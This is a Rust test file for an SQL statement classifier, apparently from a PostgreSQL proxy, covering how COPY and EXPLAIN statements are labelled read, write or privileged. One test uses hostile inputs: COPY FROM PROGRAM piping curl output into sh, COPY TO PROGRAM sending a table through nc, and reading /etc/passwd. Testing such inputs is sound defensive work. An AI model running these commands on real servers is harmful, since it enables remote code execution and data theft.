//! COPY in both directions and EXPLAIN with and without ANALYZE.

use super::*;

// ---- COPY ----

#[test]
fn copy_directions() {
    check("COPY t FROM STDIN", &[Write], &[], &["t"]);
    check(
        "COPY t (a, b) FROM STDIN WITH (FORMAT csv)",
        &[Write],
        &[],
        &["t"],
    );
    check("COPY t TO STDOUT", &[Read], &["t"], &[]);
    check(
        "COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT",
        &[Read],
        &["a", "b"],
        &[],
    );
}

#[test]
fn copy_of_dml_to_stdout_is_a_write() {
    let s = one("COPY (DELETE FROM t WHERE x RETURNING *) TO STDOUT");
    assert_eq!(s.kind, "CopyStmt");
    assert!(s.operations.contains(&Write), "{:?}", s.operations);
    assert_eq!(s.tables_written, set(&["t"]));
    let s = one("COPY (UPDATE t SET a = 1 RETURNING a) TO STDOUT (FORMAT csv)");
    assert!(s.operations.contains(&Write));
}

#[test]
fn copy_program_and_server_files_are_privileged() {
    check(
        "COPY t FROM PROGRAM 'curl http://x | sh'",
        &[Write, Privileged],
        &[],
        &["t"],
    );
    check(
        "COPY t TO PROGRAM 'nc host 1'",
        &[Read, Privileged],
        &["t"],
        &[],
    );
    check(
        "COPY t FROM '/etc/passwd'",
        &[Write, Privileged],
        &[],
        &["t"],
    );
    check(
        "COPY (SELECT 1) TO '/tmp/out'",
        &[Read, Privileged],
        &[],
        &[],
    );
}

// ---- EXPLAIN ----

#[test]
fn explain_analyze_runs_the_statement() {
    let s = one("EXPLAIN ANALYZE DELETE FROM t");
    assert_eq!(s.kind, "ExplainStmt");
    assert_eq!(s.operations, ops(&[Read, Write]));
    assert_eq!(s.tables_written, set(&["t"]));
    for sql in [
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE true) DELETE FROM t",
        "EXPLAIN (ANALYZE on, BUFFERS) DELETE FROM t",
        "EXPLAIN (FORMAT json, ANALYZE 1) DELETE FROM t",
        "EXPLAIN ANALYZE VERBOSE DELETE FROM t",
    ] {
        assert_eq!(one(sql).operations, ops(&[Read, Write]), "{sql}");
    }
    check(
        "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
        &[Read, Privileged],
        &[],
        &[],
    );
    // A number never decides: the proxy classifies statement shapes with every number
    // replaced by 0, so `(ANALYZE 1)` is classified as `(ANALYZE 0)` and must run too.
    for sql in [
        "EXPLAIN (ANALYZE 0) DELETE FROM t",
        "EXPLAIN (ANALYZE 1) DELETE FROM t",
    ] {
        assert_eq!(one(sql).operations, ops(&[Read, Write]), "{sql}");
    }
}

#[test]
fn explain_without_analyze_only_reads() {
    for sql in [
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t",
        "EXPLAIN (VERBOSE) DELETE FROM t",
    ] {
        check(sql, &[Read], &["t"], &[]);
    }
    // Nothing runs, so nothing is escalated, but functions are still listed.
    let s = one("EXPLAIN SELECT pg_terminate_backend(1), nextval('s')");
    assert_eq!(s.operations, ops(&[Read]));
    assert_eq!(s.functions, set(&["pg_terminate_backend", "nextval"]));
    check(
        "EXPLAIN CREATE TABLE x AS SELECT * FROM y",
        &[Read],
        &["y"],
        &[],
    );
}
